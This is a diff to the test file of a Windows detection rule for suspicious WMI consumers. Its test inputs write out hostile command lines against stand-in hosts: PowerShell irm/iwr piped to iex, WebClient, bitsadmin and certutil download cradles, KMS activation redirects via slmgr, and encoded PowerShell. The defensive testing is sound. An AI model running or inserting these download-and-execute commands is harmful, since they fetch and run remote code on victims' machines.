@@ -23,6 +23,11 @@ const ENCODED = 'ZQBjAGgAbwAgAGgAZQBsAGwAbwAgAHcAbwByAGwAZAA=';
 
 windowsRuleTester(wmiConsumer, {
   good: [
+    { name: 'a folder of that name', image: { files: { [PLACE]: { folder: true } } } },
+    {
+      name: 'bytes that are no letters',
+      image: { files: { [PLACE]: parts(Buffer.from(activate('203.0.113.7').split('').join('\x9a'), 'latin1')) } },
+    },
     { name: 'no repository', image: { files: {} } },
     { name: 'classes and the consumers of Windows', image: { files: { [PLACE]: Buffer.concat([CLASSES, OWN]) } } },
     {
@@ -74,6 +79,43 @@ windowsRuleTester(wmiConsumer, {
       name: 'something fetched',
       image: { files: { [PLACE]: parts('powershell.exe -nop -c "irm https://x.example/a | iex"') } },
       findings: [{ messageId: 'fetches', at: at(4) }],
+    },
+    ...['irm', 'iwr', 'invoke-restmethod', 'invoke-webrequest', 'curl'].flatMap((fetch) =>
+      ['| iex', '; invoke-expression $x'].map((run) => ({
+        name: `something fetched by ${fetch} ${run}`,
+        image: { files: { [PLACE]: parts(`powershell.exe -c "$x = ${fetch} https://x.example/a ${run}"`) } },
+        findings: [{ messageId: 'fetches', at: at(4) }],
+      })),
+    ),
+    ...[
+      '(New-Object Net.WebClient).DownloadString("https://x.example") | & $r',
+      '(New-Object Net.WebClient).DownloadFile("https://x.example", "C:\\a.exe")',
+    ]
+      .concat('bitsadmin /transfer x https://x.example C:\\a.exe', 'certutil -urlcache -f https://x.example C:\\a.ps1')
+      .map((line) => ({
+        name: `something fetched: ${line.slice(0, 40)}`,
+        image: { files: { [PLACE]: parts(`cmd.exe /c ${line}`) } },
+        findings: [{ messageId: 'fetches', at: at(4) }],
+      })),
+    ...['cscript', 'wscript.exe', 'powershell', 'pwsh', 'mshta', 'rundll32', 'regsvr32', 'cmd'].map((program) => ({
+      name: `started by ${program}`,
+      image: { files: { [PLACE]: parts(`${program} slmgr.vbs /skms 203.0.113.7`) } },
+      findings: [{ messageId: 'activates', at: at(4) }],
+    })),
+    ...['Set s = CreateObject("x")', 'Set s = GetObject("x")', 's.ExecQuery("x")'].map((line) => ({
+      name: `a script with ${line}`,
+      image: { files: { [PLACE]: parts(`${line}\n\ts.SetKeyManagementServiceMachine("203.0.113.7")\r\n`) } },
+      findings: [{ messageId: 'activates', at: at(4) }],
+    })),
+    ...['c', 'n', 'nc', '', 'ncodedCommand'].map((rest) => ({
+      name: `something encoded by -e${rest}`,
+      image: { files: { [PLACE]: parts(`powershell -e${rest} ${ENCODED}`) } },
+      findings: [{ messageId: 'encoded', at: at(4) }],
+    })),
+    {
+      name: 'very many commands, cut',
+      image: { files: { [PLACE]: parts(...Array.from({ length: 55 }, (_, host) => activate(`203.0.113.${host}`))) } },
+      findings: Array.from({ length: 50 }, () => ({ messageId: 'activates', at: { file: PLACE } })),
     },
     {
       name: 'something encoded',
